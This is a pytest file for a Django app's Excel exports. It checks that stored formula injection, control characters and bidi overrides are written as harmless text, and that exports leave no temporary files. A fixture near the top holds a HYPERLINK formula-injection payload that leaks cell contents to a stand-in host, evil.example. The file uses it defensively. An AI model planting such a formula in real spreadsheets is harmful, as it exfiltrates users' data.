"""Issue 9 item 6: every Excel export survives what is already stored — control characters, bidi overrides,
formula injection — through the one cell writer (enforcement/xlsx.py), and leaves no temporary file behind."""

import io
import tempfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from enforcement import xlsx
from enforcement.enterprises import exporting
from enforcement.enterprises.models import Enterprise
from enforcement.orgs.models import Organisation
from tests.factories import EnterpriseFactory
from tests.text.walk import project_modules

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
CONTROL = "东城\x1b机械\x08厂"  # openpyxl refuses both: the export answered 500 for everyone who could see it
# (U+0000 cannot be stored at all on PostgreSQL; input refuses it, see test_refusal_pages.)
OVERRIDE = "东城\u202e厂械机"


def workbook(response):
    assert response.status_code == 200, response.status_code
    return load_workbook(io.BytesIO(b"".join(response.streaming_content)))


def cells_by_value(sheet):
    return {cell.value: cell for row in sheet.iter_rows() for cell in row if cell.value is not None}


@pytest.fixture
def private_tempdir(tmp_path, monkeypatch):
    """Temporary files of this test only (openpyxl spools write-only sheets there), to see what is left."""
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    return tmp_path


def test_register_export_writes_hostile_names_as_harmless_text(browse, world, private_tempdir):
    for name in (HYPERLINK, CONTROL, OVERRIDE, "+86 13800000000", "@SUM(1)", "-1"):
        EnterpriseFactory(organisation=world.orgs.county_a, name=name)
    response = browse.as_(world.people.county_a_officer).get("/enterprises/export/")
    cells = cells_by_value(workbook(response).active)

    formula = cells[HYPERLINK]
    assert formula.data_type == "s"  # text, not a live formula
    assert formula.quotePrefix  # and stays text when someone edits the cell in Excel
    for text in ("+86 13800000000", "@SUM(1)", "-1"):
        assert cells[text].data_type == "s" and cells[text].quotePrefix, text
    assert "东城\ufffd机械\ufffd厂" in cells  # replaced, visibly, where openpyxl refused it
    assert "东城\ufffd厂械机" in cells  # the override no longer reverses the name
    assert not cells["东城\ufffd厂械机"].quotePrefix  # ordinary text is written as it is
    assert list(Path(private_tempdir).iterdir()) == []


def test_register_export_leaves_no_temporary_file_when_it_fails(browse, world, private_tempdir, monkeypatch):
    EnterpriseFactory.create_batch(3, organisation=world.orgs.county_a)
    real_rows = exporting.export_rows

    def rows_then_failure(user, queryset):
        yield from list(real_rows(user, queryset))[:2]
        raise RuntimeError("the database went away")

    monkeypatch.setattr(exporting, "export_rows", rows_then_failure)
    with pytest.raises(RuntimeError):
        browse.as_(world.people.county_a_officer).get("/enterprises/export/")
    assert list(Path(private_tempdir).iterdir()) == []


def test_numbers_stay_numbers_and_ready_cells_pass_through():
    def fill(book):
        sheet = book.create_sheet("表")
        sheet.append(xlsx.row(sheet, [-3, 2.5, "-3", xlsx.cell(sheet, "=A1")]))

    sheet = load_workbook(xlsx.write(fill)).active
    numbers, fraction, text, ready = next(sheet.iter_rows())
    assert (numbers.value, numbers.data_type) == (-3, "n")
    assert (fraction.value, fraction.data_type) == (2.5, "n")
    assert (text.value, text.data_type, text.quotePrefix) == ("-3", "s", True)
    assert (ready.value, ready.data_type) == ("=A1", "s")


def test_guidance_ledger_export_writes_a_hostile_county_name_as_text(browse, world):
    Organisation.objects.filter(pk=world.orgs.county_b.pk).update(name=HYPERLINK + "\x07")
    response = browse.as_(world.people.city_legal).get("/supervision/guidance/ledger/export/")
    summary = workbook(response)["县区汇总"]
    cell = cells_by_value(summary)[HYPERLINK + "\ufffd"]
    assert cell.data_type == "s" and cell.quotePrefix


def test_no_export_writes_cells_but_through_the_one_helper():
    """A new export that built its own openpyxl cells or workbook would miss the neutralising: it fails here."""
    allowed = {"enforcement.xlsx", "enforcement.enterprises.importing"}  # the helper; the import parser reads
    offenders = []
    for module in project_modules():
        if module.__name__ in allowed or not getattr(module, "__file__", None):
            continue
        source = Path(module.__file__).read_text(encoding="utf-8")
        if any(marker in source for marker in ("import Workbook", "WriteOnlyCell", "openpyxl.Workbook")):
            offenders.append(module.__name__)
    assert offenders == []


@pytest.mark.django_db
def test_stored_control_characters_still_exist_in_the_database_unchanged(world):
    """Neutralising is for the file only: what is stored is not rewritten behind anyone's back."""
    enterprise = EnterpriseFactory(organisation=world.orgs.county_a, name=CONTROL)
    assert Enterprise.objects.get(pk=enterprise.pk).name == CONTROL
